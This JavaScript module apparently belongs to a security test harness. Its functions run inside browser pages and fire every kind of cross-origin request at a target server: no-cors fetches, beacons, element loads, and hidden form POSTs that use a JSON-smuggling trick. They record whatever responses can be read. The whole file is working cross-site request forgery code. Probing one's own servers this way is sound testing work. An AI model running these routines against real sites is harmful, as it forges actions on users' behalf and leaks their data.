// Runs inside pages: each function is sent there as text and must not use anything outside itself.

/** Sends every request to another origin in every way that asks nobody first, and in those that do. What could be read. */
export async function attackAcross({ url, requests }) {
  const read = [];
  const note = async (path, how, reply) => {
    const text = await reply.text().catch(() => "");
    if (text) read.push({ path, how, status: reply.status, text });
  };
  const tries = (path, body) => {
    const post = { method: "POST", mode: "no-cors", credentials: "include" };
    const form = new FormData();
    form.append("a", body);
    const json = { "content-type": "application/json" };
    return [
      ["no-cors GET", { mode: "no-cors" }],
      ["no-cors HEAD", { mode: "no-cors", method: "HEAD" }],
      ["cors GET", {}],
      ["no referrer GET", { mode: "no-cors", referrerPolicy: "no-referrer" }],
      ["text POST", { ...post, body, headers: { "content-type": "text/plain" } }],
      ["no referrer POST", { ...post, body, referrerPolicy: "no-referrer" }],
      ["bare POST", { ...post, body: new Blob([body]) }],
      ["cors POST", { method: "POST", body }],
      ["form POST", { ...post, body: new URLSearchParams({ a: body }) }],
      ["multipart POST", { ...post, body: form }],
      ["json POST", { method: "POST", body, headers: json }],
      ["PUT", { method: "PUT", body, headers: json }],
      ["DELETE", { method: "DELETE" }],
    ].map(([how, init]) => fetch(url + path, init).then((reply) => note(path, how, reply), () => {}));
  };
  const loads = (path) =>
    ["img", "script", "link", "iframe", "object", "video"].map((name) => {
      const element = document.createElement(name);
      if (name === "link") element.rel = "stylesheet";
      const loaded = new Promise((done) => {
        for (const event of ["load", "error", "loadedmetadata"]) element.addEventListener(event, done);
        setTimeout(done, 2_000);
      });
      element[name === "link" ? "href" : name === "object" ? "data" : "src"] = url + path;
      document.body.append(element);
      return loaded.then(() => {
        let text = "";
        try {
          text = element.contentDocument?.body?.innerText ?? "";
        } catch {
          // The regular form.
        }
        if (text) read.push({ path, how: name, status: 0, text });
        element.remove();
      });
    });
  const posts = (path, body) =>
    ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"].map((type) => {
      const frame = document.createElement("iframe");
      frame.name = `frame-${Math.random()}`;
      const form = document.createElement("form");
      Object.assign(form, { method: "POST", enctype: type, action: url + path, target: frame.name });
      // The usual trick: what a form puts between name and value becomes part of a JSON text.
      const input = document.createElement("input");
      const cut = body.lastIndexOf("}");
      [input.name, input.value] = cut > 0 ? [`${body.slice(0, cut)}${cut > 1 ? "," : ""}"x":"`, '"}'] : ["a", "b"];
      form.append(input);
      document.body.append(frame, form);
      const loaded = new Promise((done) => {
        frame.addEventListener("load", () => setTimeout(done, 20));
        setTimeout(done, 2_000);
      });
      form.submit();
      return loaded.then(() => [frame, form].forEach((element) => element.remove()));
    });
  const loaded = new Set();
  for (const { path, body } of requests) {
    navigator.sendBeacon(url + path, body);
    await Promise.all([...tries(path, body), ...(loaded.has(path) ? [] : loads(path)), ...posts(path, body)]);
    loaded.add(path);
  }
  return read;
}

/** Sends every request to the page's own origin, which asks nobody. All that could be read. */
export async function attackAsOneOrigin({ requests }) {
  const read = [];
  for (const { verb, path, body } of requests) {
    for (const headers of [{ "content-type": "application/json" }, { "content-type": "text/plain", "user-agent": "curl/8.5" }]) {
      const init = { method: verb, headers, referrerPolicy: "no-referrer" };
      if (verb !== "GET" && verb !== "HEAD") init.body = body;
      const reply = await fetch(path, init).catch(() => undefined);
      if (reply) read.push({ path, status: reply.status, text: await reply.text() });
    }
  }
  return read;
}
